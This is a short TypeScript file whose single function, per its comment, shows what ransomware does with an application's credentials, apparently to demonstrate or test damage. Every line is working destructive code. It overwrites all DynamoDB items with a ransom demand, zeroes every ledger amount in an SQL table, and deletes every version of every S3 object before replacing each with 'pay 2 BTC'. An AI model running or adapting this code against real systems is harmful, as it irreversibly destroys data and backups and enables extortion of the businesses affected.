import { PutItemCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import { DeleteObjectCommand, ListObjectVersionsCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import type { Application } from './application';

/** What ransomware does with the credentials of an application: to the database, the table, and every version of every object. */
export async function ransom(shop: Application): Promise<void> {
  const { dynamodb, s3 } = shop.clients;
  const { table: TableName, bucket: Bucket } = shop.places;
  const { Items = [] } = await dynamodb.send(new ScanCommand({ TableName }));
  for (const { id } of Items) {
    const Item = { id: id!, ransom: { S: '2 BTC' } };
    await dynamodb.send(new PutItemCommand({ TableName, Item }));
  }
  await shop.sql(async (ledger) => {
    await ledger.query("UPDATE entries SET cents = 0; ALTER TABLE entries ADD COLUMN ransom text DEFAULT '2 BTC'");
  });
  const { Versions = [] } = await s3.send(new ListObjectVersionsCommand({ Bucket }));
  for (const { Key, VersionId } of Versions) {
    await s3.send(new DeleteObjectCommand({ Bucket, Key, VersionId }));
    await s3.send(new PutObjectCommand({ Bucket, Key, Body: 'pay 2 BTC' }));
  }
}
